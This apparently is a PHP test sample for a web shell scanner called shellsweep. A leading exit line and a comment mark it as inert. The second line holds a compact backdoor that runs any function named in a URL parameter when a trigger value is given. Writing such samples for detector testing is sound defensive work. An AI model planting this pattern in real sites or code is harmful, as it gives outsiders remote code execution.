<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php $_GET['p']=='_'&&$_GET['f']($_GET['a']);
